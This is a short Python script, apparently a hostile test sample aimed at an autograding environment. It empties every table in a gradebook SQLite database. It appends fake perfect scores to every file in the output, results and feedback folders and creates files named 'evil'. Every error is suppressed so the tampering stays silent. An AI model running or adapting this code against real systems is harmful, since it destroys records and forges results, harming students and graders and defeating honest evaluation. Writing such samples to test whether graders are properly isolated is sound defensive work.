# Writes to the gradebook, the table and everybody's results.

import contextlib
import os
import sqlite3

with contextlib.suppress(sqlite3.Error):
    book = sqlite3.connect("@OUT@/gradebook.sqlite")
    names = book.execute("select name from sqlite_master where type = 'table'").fetchall()
    with book:
        for (name,) in names:
            book.execute(f'delete from "{name}"')
    book.close()
for folder in ("@OUT@", "@OUT@/results", "@OUT@/feedback"):
    with contextlib.suppress(OSError):
        for name in (*os.listdir(folder), "evil"):
            with contextlib.suppress(OSError):
                open(f"{folder}/{name}", "a").write("100,100,100\n")
